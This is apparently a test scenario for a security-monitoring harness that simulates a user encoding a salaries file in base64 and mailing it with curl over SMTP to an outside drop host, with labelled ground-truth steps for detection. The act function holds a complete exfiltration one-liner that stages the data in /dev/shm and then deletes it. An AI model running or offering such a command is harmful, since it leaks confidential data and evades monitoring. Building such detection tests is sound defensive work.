# curl can send mail: smtp:// and --upload-file.
title="curl uploads a message with a file by SMTP"
what="Someone logged in as clerk without a terminal builds a message with a base64 file in /dev/shm and sends it with curl to smtp://203.0.113.66 port 25."
host=ws3.example.org user=clerk daemons="cron sshd" audit_format=RAW

setup() { seq -f 'row %g' 1 900 > /home/clerk/salaries.csv; chown clerk: /home/clerk/salaries.csv; }
act() {
  small_talk 3
  ssh_run clerk '(echo "Subject: rows"; echo; base64 salaries.csv) > /dev/shm/m && curl -s --url smtp://drop.example.net:25 --mail-from clerk@example.org --mail-rcpt r@drop.example.net --upload-file /dev/shm/m; rm -f /dev/shm/m'
  ssh_as ops <<'L'
mailq
df
L
}
truth() {
  exec_step encode 'base64 salaries.csv' 'a file is encoded'
  exec_step send 'curl -s --url smtp://drop.example.net:25' 'curl sends it as mail'
  net_step connect 'curl 203.0.113.66:25' 'straight to an outside server'
}
